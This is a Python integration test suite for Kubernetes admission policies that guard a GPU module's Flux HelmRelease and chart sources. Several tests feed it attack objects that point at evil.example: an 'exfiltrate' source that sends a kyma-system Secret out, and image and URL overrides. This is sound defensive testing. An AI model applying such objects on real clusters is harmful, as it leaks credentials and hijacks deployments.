"""The module's Flux objects at admission, on the real API server.

- Only the manager writes them (issue 49, finding 2): a namespace owner of kyma-system (a
  RoleBinding there to `*`, as stock `edit` or more) may suspend, resume and annotate the
  module's HelmRelease and source, and change nothing else of them, nor create them.
- The allowed chart sources hold whoever writes them (a cluster administrator past RBAC, who
  stands for a compromised manager here): each attack is refused by the
  ValidatingAdmissionPolicies kyma-gpu-flux-objects and kyma-gpu-flux-sources, and what the plan
  renders (plan/flux.flux_objects) is accepted, for NVIDIA's repository and for a mirror the
  administrator lists. These writes are `--dry-run=server`.

A user's own Flux objects in kyma-system stay untouched by the policies.
"""

from __future__ import annotations

import copy
import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from kyma_gpu.api.chart_sources import CONFIG_MAP_NAME
from kyma_gpu.extensions.own_flux.bundle import SHARD, SHARD_LABEL
from kyma_gpu.extensions.own_flux.machine import shard
from kyma_gpu.plan.flux_objects import CHART_SOURCE_LABEL, FluxSettings, flux_objects
from kyma_gpu.rules.catalog import Catalog
from tests.harness.binaries import FLUX_CLI, binary
from tests.harness.chart_sources import NVIDIA, chart_sources_config_map
from tests.harness.cluster import LocalCluster
from tests.harness.module import (
    MODULE_NAMESPACE,
    ROOT,
    install_crds,
    install_module_rbac,
    wait_until,
)

pytestmark = pytest.mark.integration

OWNER = "gpu-kyma-system-owner"
MIRROR = "https://charts.mirror.example/nvidia"
OCI_MIRROR = "oci://registry.mirror.example/charts"
OBJECTS_WORDS = "the module's Flux objects in kyma-system"
OWNER_OBJECTS: list[dict[str, Any]] = [
    {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
     "metadata": {"name": "test-kyma-system-owner"},
     "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]},
    {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
     "metadata": {"name": "test-kyma-system-owner", "namespace": MODULE_NAMESPACE},
     "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                 "name": "test-kyma-system-owner"},
     "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": OWNER}]},
]  # fmt: skip


@pytest.fixture(scope="module")
def cluster(local_cluster: LocalCluster) -> Iterator[LocalCluster]:
    install_crds(local_cluster)  # the Flux CRDs too
    install_module_rbac(local_cluster)
    local_cluster.apply(*OWNER_OBJECTS)
    local_cluster.kubectl("delete", "configmap", CONFIG_MAP_NAME, "-n", MODULE_NAMESPACE,
                          "--ignore-not-found")  # fmt: skip
    # A new admission policy takes effect once the API server has loaded it (about a second).
    labelled, _ = _planned(MIRROR)
    wait_until(lambda: "kyma-gpu-flux-sources" in _write(local_cluster, labelled)[1], 30,
               "the policies in force")  # fmt: skip
    yield local_cluster
    local_cluster.kubectl("delete", "configmap", CONFIG_MAP_NAME, "-n", MODULE_NAMESPACE,
                          "--ignore-not-found")  # fmt: skip
    local_cluster.kubectl("delete", "rolebinding", "test-kyma-system-owner", "-n", MODULE_NAMESPACE)
    local_cluster.kubectl("delete", "clusterrole", "test-kyma-system-owner")


def _planned(repository: str, **more: Any) -> tuple[dict[str, Any], dict[str, Any]]:
    settings = FluxSettings.from_defaults(Catalog(Path(ROOT) / "values-rules").defaults)
    return flux_objects(settings, chart_repository=repository, chart_name="gpu-operator",
                        chart_version="v26.7.0", insecure=more.get("insecure", False),
                        secret_ref=more.get("secret_ref"), values={}, owner=None)  # fmt: skip


ADMIN = ("--as=gpu-test-admin", "--as-group=system:masters")
"""A cluster administrator past RBAC: held to the allowed chart sources like everyone; only the
manager and such an administrator write the module's Flux objects at all."""
MANAGER = "system:serviceaccount:kyma-system:gpu-manager"


def _write(cluster: LocalCluster, body: dict[str, Any]) -> tuple[bool, str]:
    said = cluster.kubectl("create", "-f", "-", *ADMIN, "--dry-run=server",
                           input=json.dumps(body), check=False)  # fmt: skip
    # Admission runs before storage: "already exists" (an object an earlier test left) means
    # every policy let the request through.
    allowed = said.returncode == 0 or "(AlreadyExists)" in said.stderr
    return allowed, said.stdout + said.stderr


def _refused(cluster: LocalCluster, body: dict[str, Any], words: str) -> None:
    ok, said = _write(cluster, body)
    assert not ok, said
    assert words in said, said


def _allow(cluster: LocalCluster, *sources: dict[str, Any]) -> None:
    cluster.apply(chart_sources_config_map(NVIDIA, *sources))


def test_the_plans_objects_for_nvidias_repository_pass(cluster: LocalCluster) -> None:
    for obj in _planned(NVIDIA["url"]):
        assert CHART_SOURCE_LABEL not in obj["metadata"]["labels"]
        ok, said = _write(cluster, obj)
        assert ok, said


def test_another_repository_needs_the_administrator(cluster: LocalCluster) -> None:
    source, release = _planned(MIRROR, secret_ref="mirror-auth")
    assert source["metadata"]["labels"][CHART_SOURCE_LABEL] == "administrator"
    ok, said = _write(cluster, source)
    assert not ok, said  # no ConfigMap: kyma-gpu-flux-sources finds no parameter and refuses
    _allow(cluster, {"kind": "HelmRepository", "url": "https://other.example/charts"})
    try:
        _refused(cluster, source, f"{OBJECTS_WORDS} read charts only from a source the ConfigMap")
        _allow(cluster, {"kind": "HelmRepository", "url": MIRROR})
        _refused(cluster, source, f"{OBJECTS_WORDS} send only a Secret the ConfigMap")
        _allow(cluster, {"kind": "HelmRepository", "url": MIRROR, "secretRefs": ["mirror-auth"]})
        for obj in (source, release):
            ok, said = _write(cluster, obj)
            assert ok, said
        flow = chart_sources_config_map(NVIDIA)  # the same list as an administrator may write it
        flow["data"]["sources.yaml"] = (
            f"sources:\n- kind: HelmRepository\n  url: '{MIRROR}/'\n"
            '  secretRefs: [other, "mirror-auth"]\n'
        )
        cluster.apply(flow)
        ok, said = _write(cluster, source)
        assert ok, said
        unlabelled = copy.deepcopy(source)
        del unlabelled["metadata"]["labels"][CHART_SOURCE_LABEL]
        _refused(cluster, unlabelled, f"{OBJECTS_WORDS} read charts only from {NVIDIA['url']}")
    finally:
        cluster.kubectl("delete", "configmap", CONFIG_MAP_NAME, "-n", MODULE_NAMESPACE)


def test_an_oci_mirror(cluster: LocalCluster) -> None:
    source, release = _planned(OCI_MIRROR)
    _allow(cluster, {"kind": "OCIRepository", "url": OCI_MIRROR})
    try:
        for obj in (source, release):
            ok, said = _write(cluster, obj)
            assert ok, said
        elsewhere = copy.deepcopy(source)
        elsewhere["spec"]["url"] = "oci://registry.mirror.example/evil/gpu-operator"
        _refused(cluster, elsewhere, f"{OBJECTS_WORDS} read charts only from a source")
    finally:
        cluster.kubectl("delete", "configmap", CONFIG_MAP_NAME, "-n", MODULE_NAMESPACE)


def test_a_sharded_source_sends_no_secret_of_kyma_system(cluster: LocalCluster) -> None:
    """The module's source-controller reads every Secret in kyma-system: a sharded source of
    any name could send one to any URL."""
    source = dict(shard([_planned(NVIDIA["url"])[0]])[0])
    assert source["metadata"]["labels"][SHARD_LABEL] == SHARD
    source["metadata"]["name"] = "exfiltrate"
    source["spec"]["url"] = "https://evil.example/charts"
    source["spec"]["secretRef"] = {"name": "another-components-secret"}
    _refused(cluster, source, f"{OBJECTS_WORDS} read charts only from {NVIDIA['url']}")


def _release(change: str) -> dict[str, Any]:
    _, release = _planned(NVIDIA["url"])
    spec = release["spec"]
    if change == "account":
        spec["serviceAccountName"] = "gpu-flux-helm-controller"
    elif change == "namespace":
        spec["targetNamespace"] = "kube-system"
    elif change == "kubeConfig":
        spec["kubeConfig"] = {"secretRef": {"name": "admin-kubeconfig"}}
    elif change == "name":
        release["metadata"]["name"] = "second"
    elif change == "source":
        spec["chart"]["spec"]["sourceRef"]["name"] = "theirs"
    elif change == "chart":
        spec["chart"]["spec"]["chart"] = "network-operator"
    return release


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ("account", "are one HelmRelease gpu-operator that installs as gpu-operator-release"),
        ("namespace", "are one HelmRelease gpu-operator that installs as gpu-operator-release"),
        ("kubeConfig", "are one HelmRelease gpu-operator that installs as gpu-operator-release"),
        ("name", "are one HelmRelease gpu-operator that installs as gpu-operator-release"),
        ("source", "take the chart from the module's source gpu-operator"),
        ("chart", "install the chart gpu-operator unless a cluster administrator lists another"),
    ],
)
def test_the_release_installs_only_the_allowed_chart_as_the_release_account(
    cluster: LocalCluster, change: str, words: str
) -> None:
    _refused(cluster, _release(change), f"{OBJECTS_WORDS} {words}")


def test_a_users_own_flux_objects_are_not_the_modules(cluster: LocalCluster) -> None:
    theirs = {"apiVersion": "source.toolkit.fluxcd.io/v1", "kind": "HelmRepository",
              "metadata": {"name": "theirs", "namespace": MODULE_NAMESPACE},
              "spec": {"url": "https://charts.example/theirs", "interval": "10m"}}  # fmt: skip
    ok, said = _write(cluster, theirs)
    assert ok, said


# --- only the manager writes the module's Flux objects (issue 49, finding 2) ---------------


def _as(cluster: LocalCluster, who: str, *args: str, body: Any = None) -> tuple[bool, str]:
    said = cluster.kubectl(*args, f"--as={who}", check=False,
                           input=json.dumps(body) if body is not None else None)  # fmt: skip
    return said.returncode == 0, said.stdout + said.stderr


@pytest.fixture
def applied(cluster: LocalCluster) -> Iterator[tuple[dict[str, Any], dict[str, Any]]]:
    """The plan's source and HelmRelease, created by the manager's account."""
    source, release = _planned(NVIDIA["url"])
    for obj in (source, release):
        ok, said = _as(cluster, MANAGER, "create", "-f", "-", body=obj)
        assert ok, said
    yield source, release
    for obj in (release, source):
        cluster.kubectl("delete", obj["kind"].lower(), obj["metadata"]["name"], "-n",
                        MODULE_NAMESPACE, "--ignore-not-found")  # fmt: skip


WRITES = {
    "values": {"spec": {"values": {"validator": {"image": "evil.example/validator"}}}},
    "valuesFrom": {"spec": {"valuesFrom": [{"kind": "Secret", "name": "theirs"}]}},
    "postRenderers": {"spec": {"postRenderers": [{"kustomize": {"images": [
        {"name": "nvcr.io/nvidia/cloud-native/gpu-operator-validator",
         "newName": "evil.example/validator"}]}}]}},
    "chart": {"spec": {"chart": {"spec": {"version": "v26.3.3"}}}},
    "label": {"metadata": {"labels": {"sharding.fluxcd.io/key": "theirs"}}},
}  # fmt: skip


@pytest.mark.parametrize("change", list(WRITES))
def test_a_kyma_system_editor_cannot_change_the_modules_release(
    cluster: LocalCluster, applied: tuple[dict[str, Any], dict[str, Any]], change: str
) -> None:
    ok, said = _as(cluster, OWNER, "patch", "helmrelease", "gpu-operator", "-n",
                   MODULE_NAMESPACE, "--type=merge", "-p", json.dumps(WRITES[change]))  # fmt: skip
    assert not ok, said
    assert f"{OBJECTS_WORDS} are written by the module's manager only" in said, said
    assert "UPDATE helmreleases gpu-operator" in said, said


def test_a_kyma_system_editor_cannot_change_the_modules_source(
    cluster: LocalCluster, applied: tuple[dict[str, Any], dict[str, Any]]
) -> None:
    patch = {"spec": {"url": "https://evil.example/charts"}}
    ok, said = _as(cluster, OWNER, "patch", "helmrepository", "gpu-operator", "-n",
                   MODULE_NAMESPACE, "--type=merge", "-p", json.dumps(patch))  # fmt: skip
    assert not ok, said
    assert "are written by the module's manager only" in said, said


def test_a_kyma_system_editor_cannot_create_the_modules_release(cluster: LocalCluster) -> None:
    _, release = _planned(NVIDIA["url"])
    ok, said = _as(cluster, OWNER, "create", "-f", "-", "--dry-run=server", body=release)
    assert not ok, said
    assert "are written by the module's manager only" in said, said


def test_suspend_resume_and_annotations_stay_the_users(
    cluster: LocalCluster, applied: tuple[dict[str, Any], dict[str, Any]]
) -> None:
    """What `flux suspend` writes (the real flux CLI), an annotation as `flux reconcile` sets,
    and the resume."""

    flux = str(binary(FLUX_CLI))
    kube = ("--kubeconfig", str(cluster.kubeconfig), "-n", MODULE_NAMESPACE, f"--as={OWNER}")
    for argv in (("suspend", "helmrelease", "gpu-operator"),
                 ("suspend", "source", "helm", "gpu-operator")):  # fmt: skip
        run = subprocess.run([flux, *argv, *kube], capture_output=True, text=True, check=False)
        assert run.returncode == 0, run.stdout + run.stderr
    release = cluster.get_object("helmrelease", "gpu-operator", MODULE_NAMESPACE) or {}
    assert release["spec"]["suspend"] is True
    ok, said = _as(cluster, OWNER, "annotate", "helmrelease", "gpu-operator", "-n",
                   MODULE_NAMESPACE, "reconcile.fluxcd.io/requestedAt=now")  # fmt: skip
    assert ok, said
    resume = '{"spec":{"suspend":false}}'
    ok, said = _as(cluster, OWNER, "patch", "helmrelease", "gpu-operator", "-n",
                   MODULE_NAMESPACE, "--type=merge", "-p", resume)  # fmt: skip
    assert ok, said


def test_the_manager_writes_them(
    cluster: LocalCluster, applied: tuple[dict[str, Any], dict[str, Any]]
) -> None:
    patch = {"spec": {"values": {"driver": {"version": "595"}}}}
    ok, said = _as(cluster, MANAGER, "patch", "helmrelease", "gpu-operator", "-n",
                   MODULE_NAMESPACE, "--type=merge", "-p", json.dumps(patch))  # fmt: skip
    assert ok, said


def test_only_the_module_deletes_its_release(
    cluster: LocalCluster, applied: tuple[dict[str, Any], dict[str, Any]]
) -> None:
    """A delete uninstalls the GPU stack (Flux's finalizer) and the manager installs it again:
    a kyma-system writer deletes the Gpu instead."""
    for kind in ("helmrelease", "helmrepository"):
        delete = ("delete", kind, "gpu-operator", "-n", MODULE_NAMESPACE, "--dry-run=server")
        ok, said = _as(cluster, OWNER, *delete)
        assert not ok, said
        assert f"{OBJECTS_WORDS} are deleted by the module's manager only" in said, said
        for who in (MANAGER, "system:serviceaccount:kube-system:generic-garbage-collector"):
            ok, said = _as(cluster, who, *delete)
            assert ok, said
    theirs = {"apiVersion": "source.toolkit.fluxcd.io/v1", "kind": "HelmRepository",
              "metadata": {"name": "theirs-too", "namespace": MODULE_NAMESPACE},
              "spec": {"url": "https://charts.example/theirs", "interval": "10m"}}  # fmt: skip
    ok, said = _as(cluster, OWNER, "create", "-f", "-", body=theirs)
    assert ok, said
    ok, said = _as(cluster, OWNER, "delete", "helmrepository", "theirs-too", "-n",
                   MODULE_NAMESPACE)  # fmt: skip
    assert ok, said  # a user's own Flux objects are theirs
